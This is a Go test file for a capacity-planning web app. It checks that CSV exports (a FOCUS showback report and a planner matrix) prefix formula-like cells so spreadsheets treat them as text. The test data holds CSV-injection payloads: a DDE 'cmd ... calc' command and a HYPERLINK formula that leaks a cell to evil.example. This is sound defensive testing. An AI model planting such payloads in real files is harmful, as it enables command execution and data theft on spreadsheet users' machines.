package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"capplan/planner"
	"capplan/web/reports"
	"capplan/web/store"
)

// formulaCells are the cells of a CSV that a spreadsheet would run as a
// formula: text starting with =, +, -, @, a tab or a carriage return that
// is not a plain number.
func formulaCells(t *testing.T, body string) []string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var bad []string
	for _, rec := range recs {
		for _, cell := range rec {
			if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				continue
			}
			if _, err := strconv.ParseFloat(cell, 64); err == nil {
				continue
			}
			bad = append(bad, cell)
		}
	}
	return bad
}

func TestCSVCellNeutralisesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		"=SUM(A1)": "'=SUM(A1)", "-x": "'-x", "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0", "@SUM(1)": "'@SUM(1)",
		"\tx": "'\tx", "\rx": "'\rx", "plain": "plain", "": "", "-12.5": "-12.5", "+3": "+3", "-1e3": "-1e3", "-": "'-",
	} {
		if got := reports.CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestFOCUSExportRunsNoFormula: a report title and showback tenants that
// are formulas reach the FOCUS CSV as text; its negative and decimal
// figures stay figures.
func TestFOCUSExportRunsNoFormula(t *testing.T) {
	app := newTestApp(t)
	r := seedDemoInto(t, app)
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	if err := app.store.RenameReport(context.Background(), store.Edit{ReportID: r.ID, BaseVersion: r.Version, UserID: app.users["lead"].ID}, evil); err != nil {
		t.Fatal(err)
	}
	c := app.client("finance")
	hres, body := do(t, c, http.MethodGet, fmt.Sprintf("%s/reports/%d/showback.focus.csv?meter=tokens", app.srv.URL, r.ID), nil)
	if hres.StatusCode != http.StatusOK {
		t.Fatalf("%d %s", hres.StatusCode, body)
	}
	if !strings.Contains(body, `'=HYPERLINK(`) {
		t.Errorf("the title is not in the export as text")
	}
	if bad := formulaCells(t, body); len(bad) > 0 {
		t.Errorf("formula cells in the FOCUS export: %q", bad)
	}
	// The tenants' names go through the same writer.
	var buf bytes.Buffer
	if err := reports.WriteCSV(&buf, [][]string{{"x_Tenant", "BilledCost"}, {"+cmd|' /C calc'!A0", "-0.50"}}); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != "x_Tenant,BilledCost\n'+cmd|' /C calc'!A0,-0.50\n" {
		t.Errorf("tenant row %q", got)
	}
}

// TestMatrixCSVRunsNoFormula: text in the matrix CSV (a file name, a stop
// reason) that reads as a formula is written as text; figures stay figures.
func TestMatrixCSVRunsNoFormula(t *testing.T) {
	neg := -1.5
	res := planner.Result{Matrix: []planner.RowResult{{
		Row:    planner.Row{LoadKind: "concurrency", Load: &neg, Observed: planner.Observed{StopReason: "@SUM(1+1)"}},
		Source: planner.Source{File: "=cmd|' /C calc'!A0.json"},
	}}}
	var buf bytes.Buffer
	if err := writeMatrixCSV(&buf, res); err != nil {
		t.Fatal(err)
	}
	if bad := formulaCells(t, buf.String()); len(bad) > 0 {
		t.Errorf("formula cells in matrix.csv: %q", bad)
	}
	if !strings.Contains(buf.String(), ",-1.5,") || !strings.Contains(buf.String(), "'=cmd") {
		t.Errorf("matrix.csv %s", buf.String())
	}
}
